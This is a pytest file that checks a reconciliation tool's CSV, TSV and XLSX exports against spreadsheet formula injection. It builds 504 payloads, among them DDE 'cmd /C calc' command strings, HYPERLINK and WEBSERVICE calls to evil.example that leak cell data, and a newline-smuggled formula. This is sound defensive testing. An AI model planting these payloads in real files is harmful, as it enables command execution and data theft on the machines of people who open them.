"""504 payloads in names, remittance and texts of invoices: no cell is evaluated, every text comes back as it was."""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from dataclasses import replace

import pytest
from libreoffice import converted, soffice_or_skip
from python_calamine import CalamineWorkbook
from review_builders import allocation, item, proposal, transaction

from reconcile.records import Alternative, Proposal, Verdict
from reconcile.review.cells import one_line, unguarded
from reconcile.review.columns import COLUMNS, Form
from reconcile.review.proposals import Layout, mark, read_file, write_csv, write_xlsx
from reconcile.review.rows import rows_of

TRIGGERS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "%0A-")
BEFORE = ("", " ", "'", "\u200b", "\ufeff", "\x00")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1;"click")',
    "SUM(1;2)*2",
    'WEBSERVICE("http://evil.example/")',
    'DDE("cmd";"/C calc";"x")',
    "2026-0001; x\r\n=1+1",
)
PAYLOADS = tuple("".join(parts) for parts in itertools.product(BEFORE, TRIGGERS, BODIES))
EVALUATED = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_there_are_five_hundred() -> None:
    assert len(set(PAYLOADS)) == 504


def attacked() -> list[Proposal]:
    """A line for each payload, with it wherever text of others stands."""
    return [_attacked(number, payload) for number, payload in enumerate(PAYLOADS)]


def _attacked(number: int, payload: str) -> Proposal:
    invoice = item(payload, 120000, item_id=f"{payload}{number}", title=payload, party_names=(payload,))
    line = transaction(
        transaction_id=f"KR1-{number:016d}",
        counterparty_name=payload,
        remittance=payload,
        bank_reference=payload,
        creditor_reference=payload[:20],
        currency="EUR",
    )
    one = proposal(allocation(invoice, 120000), line=line, verdict=Verdict.REVIEW, kind=payload)
    other = Alternative(item_id="x", number=payload, party_name=payload, open_minor=1, probability=0.1)
    return replace(one, reasons=(payload,), warnings=(payload,), missing=payload, alternatives=(other,))


KNOWN = attacked()
LAYOUTS = {"csv": Layout(), "tsv": Layout(delimiter="\t"), "csv, German": Layout(language="de")}


@pytest.mark.parametrize("layout", LAYOUTS.values(), ids=LAYOUTS)
def test_no_cell_of_a_text_file_begins_with_a_trigger_and_every_text_comes_back(layout: Layout) -> None:
    text = write_csv(KNOWN, layout).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=layout.delimiter))[1:]
    assert len(rows) == len(PAYLOADS)
    assert not [cell for row in rows for cell in row if cell.lstrip(" ").startswith(EVALUATED)]
    for one, row in zip(KNOWN, rows, strict=True):
        (stored,) = rows_of(one, layout.decimal_mark, layout.spoken)
        for column, cell in zip(COLUMNS, row, strict=True):
            assert (unguarded(cell) if column.form is Form.TEXT else cell) == stored.get(column.name, "")


def test_no_cell_of_a_workbook_is_a_formula_and_every_text_comes_back() -> None:
    content = write_xlsx(KNOWN)
    assert formulas_in(content) == []
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()[1:]
    for one, row in zip(KNOWN, rows, strict=True):
        (stored,) = rows_of(one, ",")
        assert row == [stored.get(column.name, "") for column in COLUMNS]
        assert row[6] == one_line(one.line.transaction.counterparty_name)


@pytest.mark.parametrize("content", [write_csv(KNOWN), write_csv(KNOWN, LAYOUTS["tsv"]), write_xlsx(KNOWN)])
def test_every_payload_is_decided_as_proposed(content: bytes) -> None:
    stored = {one.proposal_id: one for one in KNOWN}
    marked = mark(content, list(stored))
    found = read_file(marked, file_name="p", find_proposal=stored.get, find_items=lambda *_: [])
    assert [str(row.problem) for row in found.blocked] == []
    assert [one.allocations for one in found.decisions] == [one.allocations for one in KNOWN]


def formulas_in(content: bytes) -> list[str]:
    """Every formula in the cells of an XLSX file; the words of drop-down lists are constants between quotes."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        found = [match for name in sheets for match in _FORMULA.findall(archive.read(name).decode())]
        lists = [one for name in sheets for one in _LIST.findall(archive.read(name).decode())]
        assert "xl/externalLinks" not in "".join(archive.namelist())
    return [*found, *(one for one in lists if not _CONSTANTS.fullmatch(one))]


_FORMULA = re.compile(r"<f[ >].*?</f>|<hyperlink .*?>", re.DOTALL)
_LIST = re.compile(r"<formula1>(.*?)</formula1>", re.DOTALL)
_CONSTANTS = re.compile(r'0|(?:"|&quot;)[^"&=]*(?:"|&quot;)')


@pytest.mark.long
@pytest.mark.parametrize("form", ["csv", "tsv", "xlsx"])
def test_libreoffice_evaluates_nothing(form: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    """Opened as a person would, formulas allowed; saved as a workbook, in which a formula would be seen."""
    soffice = soffice_or_skip()
    folder = tmp_path_factory.mktemp(form)
    layout = LAYOUTS["tsv"] if form == "tsv" else Layout()
    content = write_xlsx(KNOWN) if form == "xlsx" else write_csv(KNOWN, layout)
    delimiter = {"csv": 59, "tsv": 9, "xlsx": 0}[form]
    saved = converted(soffice, content, form, "xlsx", folder, delimiter=delimiter)
    assert formulas_in(saved) == []
    rows = CalamineWorkbook.from_filelike(io.BytesIO(saved)).get_sheet_by_index(0).to_python()[1:]
    shown = [one_line(str(row[7])) for row in rows]
    came_back = shown if form == "xlsx" else [unguarded(text) for text in shown]
    assert came_back == [one_line(one.line.transaction.remittance) for one in KNOWN]


@pytest.mark.long
def test_libreoffice_would_evaluate_what_is_not_guarded(tmp_path_factory: pytest.TempPathFactory) -> None:
    """So that the test above is about something."""
    saved = converted(soffice_or_skip(), b"a;b\r\n=1+1;x\r\n", "csv", "xlsx", tmp_path_factory.mktemp("bare"))
    assert len(formulas_in(saved)) == 1
